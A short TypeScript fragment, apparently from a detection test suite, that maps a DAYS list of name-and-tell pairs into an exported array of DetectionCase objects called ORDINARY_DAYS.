export const ORDINARY_DAYS: readonly DetectionCase[] = DAYS.map(([name, tell]) => ({
  name,
  files: trail({}, tell),
}))
